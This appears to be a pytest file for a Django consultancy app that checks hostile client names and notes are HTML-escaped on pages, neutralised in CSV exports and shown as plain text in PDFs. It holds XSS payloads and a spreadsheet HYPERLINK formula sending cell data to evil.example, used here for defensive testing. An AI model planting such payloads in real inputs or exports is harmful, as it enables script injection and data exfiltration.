"""Hostile client names and notes.

Escaped in pages and htmx fragments, inert in the CSV, literal text in the PDF.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from pypdf import PdfReader

from ..conftest import XSS, client_for

ESCAPED = "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def hostile(make_completed, consultant_a):
    return make_completed(
        owner=consultant_a, client_name=XSS[:120], notes=f"{XSS}\n{FORMULA}", notes_in_report=True
    )


def assert_escaped(body: str) -> None:
    assert "<script>alert" not in body
    assert "<img src=x" not in body
    assert ESCAPED in body


def test_escaped_on_the_dashboard_and_its_fragment(hostile, consultant_a):
    client = client_for(consultant_a)
    assert_escaped(client.get(reverse("consultants:dashboard")).content.decode())
    fragment = client.get(reverse("consultants:dashboard"), {"q": "script"}, HTTP_HX_REQUEST="true")
    assert fragment.content.decode().lstrip().startswith('<section id="results"')
    assert_escaped(fragment.content.decode())


def test_escaped_on_the_assessment_page_and_the_notes_fragment(hostile, consultant_a):
    client = client_for(consultant_a)
    url = reverse("consultants:assessment", args=[hostile.token])
    assert_escaped(client.get(url).content.decode())
    fragment = client.post(
        reverse("consultants:assessment_notes", args=[hostile.token]),
        {"notes": XSS, "notes_in_report": "on"},
        HTTP_HX_REQUEST="true",
    )
    body = fragment.content.decode()
    assert body.lstrip().startswith('<section class="card shadow-sm" id="notes"')
    assert_escaped(body)


def test_escaped_on_the_buyers_result_page_which_never_shows_notes(hostile):
    body = client_for(None).get(reverse("assessments:result", args=[hostile.token])).content
    assert_escaped(body.decode())
    assert "HYPERLINK" not in body.decode()  # the notes are not on the buyer's page


def test_csv_keeps_the_text_and_neutralises_formulas(hostile, consultant_a):
    response = client_for(consultant_a).get(reverse("consultants:export_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["client_name"] == XSS[:120]
    assert rows[0]["notes"] == f"{XSS}\n{FORMULA}"  # starts with "<": not a formula


def test_csv_formula_cells_get_a_leading_quote(make_completed, consultant_a):
    make_completed(owner=consultant_a, client_name=FORMULA, notes="+1 555 0100")
    make_completed(owner=consultant_a, client_name="@SUM(A1:A9)", notes="-2+3")
    make_completed(owner=consultant_a, client_name="\t=1+1", notes="\r=1+1")
    response = client_for(consultant_a).get(reverse("consultants:export_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = {(row["client_name"], row["notes"]) for row in rows}
    assert cells == {
        ("'" + FORMULA, "'+1 555 0100"),
        ("'@SUM(A1:A9)", "'-2+3"),
        ("'\t=1+1", "'\r=1+1"),
    }


def test_pdf_shows_the_payload_as_text(hostile, client):
    response = client.get(reverse("reports:report_pdf", args=[hostile.token]))
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(" ".join(page.extract_text() or "" for page in reader.pages).split())
    assert "<script>alert('x')</script>" in text
    assert "onerror=alert(1)>" in text
